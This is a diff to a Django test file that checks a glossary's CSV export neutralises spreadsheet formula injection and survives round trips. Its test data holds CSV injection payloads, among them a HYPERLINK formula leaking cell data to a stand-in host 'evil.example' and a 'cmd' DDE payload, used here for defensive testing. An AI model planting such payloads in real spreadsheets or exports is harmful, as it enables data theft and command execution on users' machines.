@@ -1,11 +1,19 @@
 """The glossary: terms in three languages, read by QA through entries(), exchanged as CSV all-or-nothing."""
 
+import csv
 import io
 
 import pytest
 from django.utils import translation
 
-from locales.glossary import GlossaryEntry, GlossaryImportError, entries, export_csv, import_csv
+from locales.glossary import (
+    FORMULA_STARTS,
+    GlossaryEntry,
+    GlossaryImportError,
+    entries,
+    export_csv,
+    import_csv,
+)
 from locales.models import GlossaryTerm
 
 
@@ -66,6 +74,68 @@ def test_csv_round_trip_restores_every_column(terms):
     again = io.StringIO()
     export_csv(again)
     assert again.getvalue() == text
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",  # a full-width equals sign
+    "'=1+1",  # looks already neutralised: must come back with its quote
+    "''-2",
+]
+
+
+def _cells(text: str) -> list[str]:
+    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+    return [cell for row in rows[1:] for cell in row]
+
+
+def test_formulas_are_neutralised_on_export_and_a_round_trip_is_stable(db):
+    for number, formula in enumerate(FORMULAS):
+        GlossaryTerm.objects.create(term_vi=f"thuật ngữ {number}", term_en=formula, note_uk=formula)
+    GlossaryTerm.objects.create(term_vi="=1+2", term_uk="-ing", note_vi="'quoted note")
+    exported = io.StringIO()
+    export_csv(exported)
+    text = exported.getvalue()
+
+    cells = _cells(text)
+    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS]  # no cell a spreadsheet computes
+    for formula in FORMULAS:
+        assert "'" + formula in cells
+    assert {"'=1+2", "'-ing", "'quoted note"} <= set(cells)
+
+    GlossaryTerm.objects.all().delete()
+    assert import_csv(text.encode()).created == len(FORMULAS) + 1
+    for number, formula in enumerate(FORMULAS):
+        term = GlossaryTerm.objects.get(term_vi=f"thuật ngữ {number}")
+        assert (term.term_en, term.note_uk) == (formula, formula)
+    term = GlossaryTerm.objects.get(term_vi="=1+2")
+    assert (term.term_uk, term.note_vi) == ("-ing", "'quoted note")
+    again = io.StringIO()
+    export_csv(again)
+    assert again.getvalue() == text
+
+
+def test_formulas_imported_from_a_spreadsheet_leave_as_text(db):
+    """A file with live formulas (as an attacker would write it) is accepted as text, and the
+    download no longer carries them as formulas."""
+    data = 'term_vi,term_en,note_en\r\n"=HYPERLINK(""http://evil.example/?""&A1,""x"")",@SUM(1+1),"\t-1+1"\r\n'
+    import_csv(data)
+    term = GlossaryTerm.objects.get()
+    assert (term.term_vi, term.term_en, term.note_en) == (
+        '=HYPERLINK("http://evil.example/?"&A1,"x")',
+        "@SUM(1+1)",
+        "-1+1",
+    )
+    exported = io.StringIO()
+    export_csv(exported)
+    cells = _cells(exported.getvalue())
+    assert cells[:2] == ["'" + term.term_vi, "'@SUM(1+1)"]
+    assert "'-1+1" in cells
 
 
 def test_import_updates_existing_terms_case_insensitively_and_keeps_missing_columns(terms):
